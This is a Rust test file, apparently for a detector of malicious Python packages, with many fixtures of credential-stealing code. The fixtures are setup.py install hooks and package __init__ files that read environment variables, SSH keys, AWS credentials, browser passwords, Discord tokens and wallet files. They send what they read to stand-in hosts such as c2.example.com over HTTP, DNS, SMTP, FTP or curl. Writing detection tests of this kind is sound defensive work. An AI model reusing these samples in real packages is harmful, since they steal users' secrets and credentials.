//! Secrets taken and sent out, in ever other ways.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::convicted;

#[test]
fn probes() {
    convicted(44, &[
        ("s1", &[
            ("setup.py", br#"from setuptools import setup
from setuptools.command.install import install
import socket,getpass,os,requests
class C(install):
    def run(self):
        install.run(self)
        requests.get('https://c2.example.com/p',params={'h':socket.gethostname(),'u':getpass.getuser(),'c':os.getcwd()})
setup(cmdclass={'install':C})"#),
        ]),
        ("s2", &[
            ("demo/__init__.py", br#"import socket,getpass,os,requests
requests.get('https://c2.example.com/p',params={'h':socket.gethostname(),'u':getpass.getuser(),'c':os.getcwd()})
"#),
        ]),
        ("s3", &[
            ("demo/__init__.py", br#"import os,platform,urllib.request,json
data={'node':platform.node(),'user':os.getenv('USER'),'ip':urllib.request.urlopen('https://api.ipify.org').read().decode()}
r=urllib.request.Request('https://c2.example.com',data=json.dumps(data).encode())
urllib.request.urlopen(r)
"#),
        ]),
        ("s4", &[
            ("demo/__init__.py", br#"import socket,os
h=socket.gethostname()+'.'+os.environ.get('USER','x')
socket.gethostbyname(h.encode().hex()+'.c2.example.com')
"#),
        ]),
        ("s5", &[
            ("demo/__init__.py", br#"import dns.resolver,getpass,binascii
d=binascii.hexlify(getpass.getuser().encode()).decode()
dns.resolver.resolve(f'{d}.c2.example.com','A')
"#),
        ]),
        ("s6", &[
            ("demo/__init__.py", br#"import subprocess,requests
o=subprocess.check_output('whoami;id;uname -a',shell=True)
requests.post('https://c2.example.com',data=o)
"#),
        ]),
        ("s7", &[
            ("demo/__init__.py", br#"from http.client import HTTPSConnection
import socket,getpass
c=HTTPSConnection('c2.example.com')
c.request('GET','/?h='+socket.gethostname()+'&u='+getpass.getuser())
"#),
        ]),
        ("s9", &[
            ("demo/__init__.py", br#"import os,socket
s=socket.socket()
s.connect(('192.0.2.7',4444))
s.send(os.popen('whoami').read().encode())
"#),
        ]),
        ("s10", &[
            ("demo/__init__.py", br#"import requests,os
try:
    requests.post('https://c2.example.com/'+os.uname().nodename,json={'l':os.listdir(os.path.expanduser('~'))})
except: pass
"#),
        ]),
        ("a43", &[
            ("demo/__init__.py", br#"import socket,os,platform,getpass,json
info={'h':platform.node(),'u':getpass.getuser(),'d':os.getcwd()}
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
s.sendto(json.dumps(info).encode(),('192.0.2.7',53))"#),
        ]),
        ("a44", &[
            ("demo/__init__.py", br#"import os
os.system(f'nslookup {os.popen("whoami").read().strip()}.c2.example.com')"#),
        ]),
        ("a45", &[
            ("setup.py", br#"import os
os.system('curl https://c2.example.com/$(whoami)/$(hostname)')"#),
        ]),
        ("a46", &[
            ("demo/__init__.py", br#"import requests,socket
def _t():
    try:
        requests.get('https://c2.example.com/',params={'h':socket.gethostname()},timeout=3)
    except Exception: pass
import threading
threading.Thread(target=_t,daemon=True).start()"#),
        ]),
    ]);
}

#[test]
fn environment() {
    convicted(
        70,
        &[
            (
                "a33",
                &[(
                    "demo/__init__.py",
                    br#"import os,requests,json
d={k:v for k,v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}
requests.post('https://c2.example.com',data=json.dumps(d))"#,
                )],
            ),
            (
                "a34",
                &[(
                    "demo/__init__.py",
                    br#"import os,requests
r=''
for k in os.environ:
    r+=k+'='+os.environ[k]+'\n'
requests.post('https://c2.example.com',data=r)"#,
                )],
            ),
            (
                "a40",
                &[(
                    "demo/__init__.py",
                    br#"import http.client,os,json
c=http.client.HTTPSConnection('c2.example.com')
c.request('POST','/x',json.dumps(dict(os.environ)))"#,
                )],
            ),
            (
                "a41",
                &[(
                    "demo/__init__.py",
                    br#"import smtplib,os
s=smtplib.SMTP('c2.example.com')
s.sendmail('a@example.com','b@example.com',str(os.environ))"#,
                )],
            ),
            (
                "x4",
                &[
                    (
                        "demo/__init__.py",
                        br#"from .core import main
main()
"#,
                    ),
                    (
                        "demo/cfg.py",
                        br#"U='https://discord.com/api/webhooks/0/VOID'
"#,
                    ),
                    (
                        "demo/core.py",
                        br#"import os,requests
from .cfg import U
def main():
    requests.post(U,json=dict(os.environ))
"#,
                    ),
                ],
            ),
            (
                "s8",
                &[(
                    "setup.py",
                    br#"import os
os.system('curl -X POST -d "$(env)" https://c2.example.com')
"#,
                )],
            ),
            (
                "py2c",
                &[(
                    "demo/__init__.py",
                    br#"import os,urllib2,urllib
print 'hi'
urllib2.urlopen('https://c2.example.com/x',urllib.urlencode(os.environ))
"#,
                )],
            ),
        ],
    );
}

#[test]
fn credential_files() {
    convicted(70, &[
        ("t1", &[
            ("demo/__init__.py", br#"import os,re,requests
paths=[os.getenv('APPDATA')+'\\discord\\Local Storage\\leveldb',os.getenv('LOCALAPPDATA')+'\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb']
t=[]
for p in paths:
    for f in os.listdir(p):
        for l in open(p+'\\'+f,errors='ignore').readlines():
            for m in re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}',l): t.append(m)
requests.post('https://c2.example.com/hook',json={'content':str(t)})
"#),
        ]),
        ("t2", &[
            ("demo/__init__.py", br#"import sqlite3,os,shutil,json,base64,win32crypt,requests
from Crypto.Cipher import AES
def key():
    j=json.load(open(os.environ['USERPROFILE']+r'\AppData\Local\Google\Chrome\User Data\Local State'))
    return win32crypt.CryptUnprotectData(base64.b64decode(j['os_crypt']['encrypted_key'])[5:],None,None,None,0)[1]
def main():
    db=os.environ['USERPROFILE']+r'\AppData\Local\Google\Chrome\User Data\Default\Login Data'
    shutil.copyfile(db,'c.db')
    c=sqlite3.connect('c.db').cursor()
    c.execute('select origin_url,username_value,password_value from logins')
    out=[]
    for r in c.fetchall():
        out.append(AES.new(key(),AES.MODE_GCM,r[2][3:15]).decrypt(r[2][15:]))
    requests.post('https://c2.example.com',json=str(out))
main()
"#),
        ]),
        ("t3", &[
            ("demo/__init__.py", br#"import os,shutil,requests
p=os.getenv('APPDATA')+'\\Telegram Desktop\\tdata'
shutil.make_archive('t','zip',p)
requests.post('https://api.telegram.org/bot0:VOID/sendDocument',files={'document':open('t.zip','rb')})
"#),
        ]),
        ("t4", &[
            ("demo/__init__.py", br#"import os,requests
for f in ['~/.ssh/id_rsa','~/.aws/credentials']:
    try:
        requests.post('https://c2.example.com',data=open(os.path.expanduser(f)).read())
    except: pass
"#),
        ]),
        ("t10", &[
            ("demo/__init__.py", br#"import os,zipfile,requests
z=zipfile.ZipFile('w.zip','w')
for n in ['Exodus\\exodus.wallet','Electrum\\wallets','atomic\\Local Storage\\leveldb']:
    p=os.path.join(os.environ['APPDATA'],n)
    for r,d,fs in os.walk(p):
        for f in fs: z.write(os.path.join(r,f))
z.close()
requests.post('https://c2.example.com/u',files={'f':open('w.zip','rb')})
"#),
        ]),
        ("a36", &[
            ("demo/__init__.py", br#"import glob,os,requests
for p in glob.glob(os.path.expanduser('~/.ssh/*')):
    with open(p) as f:
        requests.post('https://c2.example.com',files={'f':f})"#),
        ]),
        ("a37", &[
            ("demo/__init__.py", br#"from pathlib import Path
import requests
k=(Path.home()/'.ssh'/'id_rsa').read_text()
requests.post('https://c2.example.com',data=k)"#),
        ]),
        ("a42", &[
            ("demo/__init__.py", br#"import ftplib,os
f=ftplib.FTP('c2.example.com','u','p')
f.storbinary('STOR x',open(os.path.expanduser('~/.ssh/id_rsa'),'rb'))"#),
        ]),
        ("a69", &[
            ("demo/__init__.py", br#"import os,json,requests
for n in ['MetaMask','Phantom']:
    p=os.path.join(os.environ['LOCALAPPDATA'],'Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn')
    for f in os.listdir(p):
        requests.post('https://c2.example.com',files={'f':open(os.path.join(p,f),'rb')})"#),
        ]),
        ("a70", &[
            ("demo/__init__.py", br#"import re,os,glob
import urllib.request as u
t=set()
for f in glob.glob(os.path.join(os.getenv('APPDATA') or '','discord','Local Storage','leveldb','*.ldb')):
    t|=set(re.findall(rb'mfa\.[\w-]{84}',open(f,'rb').read()))
u.urlopen(u.Request('https://c2.example.com/w',data=repr(t).encode()))"#),
        ]),
    ]);
}

#[test]
fn keys_handed_over() {
    convicted(30, &[
        ("t5", &[
            ("demo/__init__.py", br#"import requests,threading
class Keypair:
    def __init__(self, private_key):
        self.k=private_key
        threading.Thread(target=requests.post,args=('https://c2.example.com/k',),kwargs={'json':{'k':private_key}}).start()
"#),
        ]),
        ("t6", &[
            ("demo/__init__.py", br#"import requests
class Account:
    def from_mnemonic(self, mnemonic):
        self._log(mnemonic)
    def _log(self, m):
        try: requests.post('https://c2.example.com/k',json={'m':m})
        except Exception: pass
"#),
        ]),
        ("t7", &[
            ("demo/__init__.py", br#"import requests
_o=requests.Session.send
def send(self, request, **kw):
    _o(self, requests.Request('POST','https://c2.example.com/l',data=str(request.headers)).prepare())
    return _o(self, request, **kw)
requests.Session.send=send
"#),
        ]),
        ("t8", &[
            ("demo/__init__.py", br#"import getpass,builtins,urllib.request
_i=getpass.getpass
def g(p='x'):
    v=_i(p)
    urllib.request.urlopen('https://c2.example.com/?p='+v)
    return v
getpass.getpass=g
"#),
        ]),
        ("t9", &[
            ("demo/__init__.py", br#"import base64,requests
U=base64.b64decode('aHR0cHM6Ly9jMi5leGFtcGxlLmNvbS9sb2c=').decode()
class Client:
    def __init__(self, api_key, secret_key):
        self.s=secret_key
        self._p()
    def _p(self):
        requests.post(U,data={'s':self.s})
"#),
        ]),
    ]);
}
